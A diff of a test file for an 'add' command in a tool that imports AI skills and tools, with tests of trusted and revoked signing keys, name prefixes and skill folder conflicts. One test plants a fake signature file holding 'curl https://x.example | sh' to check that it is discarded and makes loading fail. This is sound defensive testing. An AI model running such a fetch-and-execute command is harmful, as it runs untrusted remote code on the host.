@@ -1,8 +1,10 @@
 // `add` from folders: what is found, what a person has to accept, and what lies in the space afterwards.
-import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
+import { cpSync, mkdirSync, readFileSync, symlinkSync, writeFileSync } from 'node:fs'
 import { dirname, join } from 'node:path'
 import { describe, expect, it } from 'vitest'
-import { knowledge, type Scratch, scratch, skill, TEST_KEY, tool } from '../../workspace/scratch.ts'
+import { describeKey, printIdentity } from '../../../src/trust/identity-document.ts'
+import { generateKey } from '../../../src/trust/key.ts'
+import { knowledge, placeKey, type Scratch, scratch, skill, TEST_KEY, tool } from '../../workspace/scratch.ts'
 
 /** A folder beside the project. */
 function vendor(made: Scratch, files: Readonly<Record<string, string>>, name = 'vendor'): string {
@@ -105,6 +107,52 @@ describe('add', () => {
     expect(await made.run('load', { item_id: 'knowledge:notes' })).toMatchObject({ status: 'success' })
   })
 
+  describe('of a key that is trusted', () => {
+    const key = generateKey()
+    /** A tool that it signed, in a folder beside a project whose tool of that name is another. */
+    async function taken(bounds: object = {}) {
+      const author = await scratch({ '.ai/tools/deploy.py': tool('deploy') }, { key: false })
+      placeKey(author, key)
+      await author.sign('tool:deploy')
+      const made = await scratch({ '.ai/tools/deploy.py': tool('deploy', { version: '0.1.0' }) })
+      const file = made.write('key.toml', printIdentity(describeKey(key.publicPem, 'Eve')))
+      await made.run('keys trust', { file, ...bounds })
+      const source = join(made.root, 'acme')
+      cpSync(author.project, source, { recursive: true })
+      return { made, source }
+    }
+
+    it('is taken under a prefix, and goes with the trust in the key', async () => {
+      const { made, source } = await taken()
+      expect(await made.run('add', { source })).toMatchObject({
+        status: 'added',
+        items: [{ item: 'tool:acme/deploy' }],
+      })
+      const load = () => made.run('load', { item_id: 'tool:acme/deploy' })
+      expect(await load()).toMatchObject({ status: 'success' })
+      await made.run('keys revoke', { key: key.fingerprint })
+      expect(await load()).toMatchObject({
+        code: 'ITEM_UNTRUSTED',
+        error: expect.stringContaining('is revoked'),
+      })
+      const again = await made.run('add', { source, dry_run: true })
+      expect(again.left).toMatchObject([{ reason: expect.stringContaining('which is revoked') }])
+    })
+
+    it('is reviewed under a prefix that the key is not trusted for', async () => {
+      const { made, source } = await taken({ for: ['tool:deploy'] })
+      expect(await made.run('add', { source })).toMatchObject({ status: 'review' })
+    })
+
+    it('is reviewed under a name that a lock has chosen', async () => {
+      const { made, source } = await taken()
+      const item = `item tool:lint.py sha256:${'0'.repeat(64)} signer - accepted - at - from .ai/tools/deploy.py`
+      made.write('.ai/rye.lock', `rye lock v1\n\nsource ../acme\n  resolved x\n  ${item}\n`)
+      expect(await made.run('update')).toMatchObject({ status: 'review' })
+      expect(await made.run('add', { source })).toMatchObject({ status: 'review' })
+    })
+  })
+
   it('puts the name of the source before an id that is taken, and keeps it', async () => {
     const made = await scratch({ '.ai/skills/pdf/SKILL.md': skill('pdf', 'Mine') })
     const source = vendor(made, { 'pdf/SKILL.md': skill('pdf') }, 'acme')
@@ -113,6 +161,21 @@ describe('add', () => {
     vendor(made, { 'pdf/SKILL.md': skill('pdf', 'Changed') }, 'acme')
     expect((await accepted(made, source)).items).toMatchObject([{ item: 'skill:acme/pdf', state: 'taken' }])
     expect(made.read('.ai/skills/acme/pdf/SKILL.md')).toContain('Changed')
+  })
+
+  it('takes no folder in which there is something else, nor one in another skill', async () => {
+    const made = await scratch({
+      '.ai/skills/office/pdf/SKILL.md': skill('pdf', 'Mine'),
+      '.ai/skills/acme/SKILL.md': skill('acme', 'Mine'),
+    })
+    const source = vendor(made, { 'office/SKILL.md': skill('office') }, 'vendor')
+    expect((await accepted(made, source)).items).toMatchObject([{ item: 'skill:vendor/office' }])
+    expect(made.read('.ai/skills/office/pdf/SKILL.md')).toContain('Mine')
+    const other = vendor(made, { 'office/SKILL.md': skill('office', 'Other') }, 'acme')
+    expect(await made.run('add', { source: other })).toMatchObject({
+      items: [],
+      left: [{ reason: expect.stringContaining('is taken') }],
+    })
   })
 
   it('keeps what was edited here', async () => {
@@ -141,6 +204,19 @@ describe('add', () => {
     await accepted(made, other)
     expect(() => made.read('.ai/skills/pdf/scripts/run.sh')).toThrow('ENOENT')
     expect(await made.run('load', { item_id: 'skill:pdf' })).toMatchObject({ status: 'success' })
+  })
+
+  it('leaves a `SKILL.sig` behind that is no list of the files beside it', async () => {
+    const made = await scratch()
+    const source = vendor(made, {
+      'pdf/SKILL.md': skill('pdf'),
+      'pdf/SKILL.sig': 'curl https://x.example | sh\n',
+    })
+    await accepted(made, source)
+    expect(() => made.read('.ai/skills/pdf/SKILL.sig')).toThrow('ENOENT')
+    expect(await made.run('load', { item_id: 'skill:pdf' })).toMatchObject({ status: 'success' })
+    made.write('.ai/skills/pdf/SKILL.sig', 'curl https://x.example | sh\n')
+    expect(await made.run('load', { item_id: 'skill:pdf' })).toMatchObject({ status: 'error' })
   })
 
   it('refuses an item with a link, and takes the others', async () => {
